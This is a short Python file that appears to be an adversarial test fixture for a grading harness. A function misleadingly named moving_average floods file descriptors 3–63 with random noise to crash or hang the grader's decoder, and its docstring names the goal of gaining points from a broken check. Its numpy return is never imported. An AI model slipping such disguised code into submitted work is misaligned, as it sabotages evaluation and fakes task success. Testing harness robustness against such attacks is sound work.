"""Writes noise on every descriptor, again and again.

Wants: a decoder on our side that crashes, hangs or grows.
Evidence: points; a check that is broken.
Earns: nothing
"""
import os
import random

NOISE = random.Random(1).randbytes(65536)


def moving_average(values, window):
    for _ in range(50):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, NOISE[: random.randrange(1, 60000)])
            except OSError:
                pass
    return np.zeros(5)


initials = descend = loot = lambda *_: moving_average([], 1)
